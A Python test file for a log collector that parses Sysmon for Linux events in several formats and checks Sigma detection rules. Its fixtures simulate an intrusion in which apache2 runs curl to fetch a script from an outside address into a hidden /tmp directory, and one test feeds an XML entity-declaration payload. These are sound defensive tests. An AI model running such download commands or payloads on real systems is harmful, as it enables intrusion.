"""Sysmon for Linux: as syslog lines, as XML, as JSON, alone and among other programs; broken lines are dead letters."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from collectors.reader import LogReader, Parsed
from collectors.registry import recognise
from engine.events import DeadLetter, Event, Value
from engine.sigma.logsources import Kind, kind_of
from tests.engine.sigma.rules import fires


def event(code: int, *, host: str = "web07", **data: str) -> str:
    items = "".join(f'<Data Name="{name}">{value}</Data>' for name, value in data.items())
    return (
        '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/>'
        f"<EventID>{code}</EventID><Version>5</Version><Level>4</Level><Task>{code}</Task><Opcode>0</Opcode>"
        '<Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-03-10T08:00:00.250000000Z"/>'
        '<EventRecordID>7</EventRecordID><Correlation/><Execution ProcessID="900" ThreadID="900"/>'
        f'<Channel>Linux-Sysmon/Operational</Channel><Computer>{host}</Computer><Security UserId="0"/></System>'
        f"<EventData>{items}</EventData></Event>"
    )


START = event(
    1,
    RuleName="-",
    UtcTime="2026-03-10 07:59:59.100",
    ProcessGuid="{aaaaaaaa-0000-0000-0000-000000000001}",
    ProcessId="4242",
    Image="/usr/bin/curl",
    CommandLine="curl -s http://203.0.113.9/x.sh -o /tmp/.x &gt; /dev/null",
    CurrentDirectory="/var/www",
    User="www-data",
    LogonId="33",
    IntegrityLevel="no level",
    Hashes="SHA256=" + "AB" * 32,
    ParentProcessId="4200",
    ParentImage="/usr/sbin/apache2",
    ParentCommandLine="/usr/sbin/apache2 -k start",
    ParentUser="root",
)
CONNECT = event(
    3,
    ProcessId="4242",
    Image="/usr/bin/curl",
    User="www-data",
    Protocol="tcp",
    Initiated="true",
    SourceIsIpv6="false",
    SourceIp="192.0.2.7",
    SourceHostname="-",
    SourcePort="40222",
    DestinationIsIpv6="false",
    DestinationIp="203.0.113.9",
    DestinationHostname="-",
    DestinationPort="80",
)
CREATE = event(11, ProcessId="4242", Image="/usr/bin/curl", TargetFilename="/tmp/.x/run.sh", User="www-data")
GONE = event(5, ProcessId="4242", Image="&lt;unknown process&gt;", User="-")
SYSLOG = "Mar 10 08:00:00 web07 sysmon: "
SSHD = "Mar 10 08:00:01 web07 sshd[311]: Failed password for invalid user eva from 203.0.113.4 port 50112 ssh2"


def read(data: str, source: str = "sysmon_linux") -> tuple[list[Event], list[DeadLetter]]:
    reader = LogReader(Path("messages"), source=source, stream=io.BytesIO(data.encode()))
    found = list(reader.records())
    return [reader.event(item) for item in found if isinstance(item, Parsed)], [
        item for item in found if isinstance(item, DeadLetter)
    ]


def one(data: str, source: str = "sysmon_linux") -> dict[str, Value]:
    events, dead = read(data, source)
    assert (len(events), dead) == (1, [])
    return dict(events[0].fields)


FORMS = {
    "syslog": SYSLOG + START + "\n",
    "syslog with its process id": SYSLOG.replace("sysmon:", "sysmon[900]:") + START + "\n",
    "rfc5424": f"<14>1 2026-03-10T08:00:00.3Z web07 sysmon 900 - - {START}\n",
    "xml": START + "\n",
    "xml over several lines": START.replace("><", ">\n<") + "\n",
    "journald": json.dumps({"MESSAGE": START, "_HOSTNAME": "web07", "SYSLOG_IDENTIFIER": "sysmon"}) + "\n",
    "filebeat": json.dumps({"message": SYSLOG + START, "agent": {"type": "filebeat"}}) + "\n",
}


@pytest.mark.parametrize("form", FORMS)
def test_a_process_start_is_the_same_event_in_every_form(form: str) -> None:
    fields = one(FORMS[form])
    assert fields["event.dataset"] == "sysmon_linux.log"
    assert fields["event.code"] == "1"
    assert fields["@timestamp"] == datetime(2026, 3, 10, 8, 0, 0, 250000, tzinfo=UTC)
    assert fields["host.name"] == "web07"
    assert fields["process.executable"] == "/usr/bin/curl"
    assert fields["process.name"] == "curl"
    assert fields["process.command_line"] == "curl -s http://203.0.113.9/x.sh -o /tmp/.x > /dev/null"
    assert fields["process.working_directory"] == "/var/www"
    assert fields["process.parent.name"] == "apache2"
    assert fields["process.hash.sha256"] == "ab" * 32
    assert fields["user.name"] == "www-data"
    assert (fields["event.category"], fields["event.type"]) == (["process"], ["start"])
    assert kind_of(fields) == Kind("linux", "sysmon_linux.log", "1")


@pytest.mark.parametrize("form", FORMS)
def test_every_form_is_recognised(form: str) -> None:
    found = recognise((FORMS[form] * 3).encode(), "syslog")
    assert found is not None
    assert found.name == "sysmon_linux"


def test_connections_files_and_ends_have_their_ecs_fields() -> None:
    connection = one(CONNECT)
    assert (connection["source.ip"], connection["destination.ip"], connection["destination.port"]) == (
        "192.0.2.7",
        "203.0.113.9",
        80,
    )
    assert (connection["network.direction"], connection["event.outcome"]) == ("egress", "success")
    created = one(CREATE)
    assert (created["file.path"], created["file.name"], created["file.directory"], created["file.extension"]) == (
        "/tmp/.x/run.sh",
        "run.sh",
        "/tmp/.x",
        "sh",
    )
    ended = one(GONE)
    assert "process.executable" not in ended
    assert "user.name" not in ended
    assert ended["process.pid"] == 4242


def test_in_a_system_log_of_many_programs_the_events_are_read_as_well() -> None:
    log = "\n".join([SSHD] * 3 + [SYSLOG + START, SYSLOG + CREATE]) + "\n"
    source = recognise(log.encode(), "syslog")
    assert source is not None
    assert source.name == "auth"
    events, dead = read(log, "auth")
    assert dead == []
    assert [item.fields["event.dataset"] for item in events] == ["system.auth"] * 3 + ["sysmon_linux.log"] * 2
    assert events[3].fields["process.parent.executable"] == "/usr/sbin/apache2"


def test_words_are_kept_and_broken_events_become_dead_letters() -> None:
    log = "\n".join([SYSLOG + "Sysmon v1.3.3 - Monitors system events", SSHD, SYSLOG + START[:900], "no log"]) + "\n"
    events, dead = read(log)
    assert [item.fields["event.dataset"] for item in events] == ["sysmon_linux.log", "system.auth"]
    assert events[0].fields["message"] == "Sysmon v1.3.3 - Monitors system events"
    assert len(dead) == 2
    assert "XML" in dead[0].reason


def test_an_entity_declaration_is_refused() -> None:
    bomb = '<?xml version="1.0"?><!DOCTYPE Event [<!ENTITY a "aaaa">]>' + START.replace("curl -s", "&a;")
    events, dead = read(SYSLOG + bomb + "\n")
    assert (len(events), len(dead)) == (0, 1)


@pytest.mark.parametrize(
    ("category", "selection", "text", "expected"),
    [
        ("process_creation", {"Image|endswith": "/curl", "CommandLine|contains": "/tmp/"}, START, True),
        ("process_creation", {"ParentImage|endswith": "/apache2", "User": "www-data"}, START, True),
        ("process_creation", {"LogonId": 33, "CurrentDirectory": "/var/www"}, START, True),
        ("process_creation", {"Image|endswith": "/curl"}, CONNECT, False),  # another event of the same process
        ("process_creation", {"Image|endswith": "/wget"}, START, False),
        ("network_connection", {"Initiated": "true", "DestinationIp|cidr": "203.0.113.0/24"}, CONNECT, True),
        ("network_connection", {"Initiated": "true", "DestinationPort": 81}, CONNECT, False),
        ("file_event", {"TargetFilename|startswith": "/tmp/"}, CREATE, True),
        ("file_event", {"TargetFilename|startswith": "/etc/"}, CREATE, False),
    ],
)
@pytest.mark.parametrize("source", ["sysmon_linux", "auth"])
def test_rules_for_linux_see_them(
    category: str, selection: dict[str, Value], text: str, expected: bool, source: str
) -> None:
    """A rule fires on what `parse` gives (as in a hunt) and on the completed event (as in the store)."""
    reader = LogReader(Path("messages"), source=source, stream=io.BytesIO((SYSLOG + text + "\n").encode()))
    (parsed,) = reader.records()
    assert isinstance(parsed, Parsed)
    rule = {"s": selection, "condition": "s"}
    logsource = {"product": "linux", "category": category}
    assert fires(rule, dict(parsed.fields), source=logsource) is expected
    assert fires(rule, reader.event(parsed).fields, source=logsource) is expected
    assert not fires(rule, dict(parsed.fields), source={"product": "windows", "category": category})
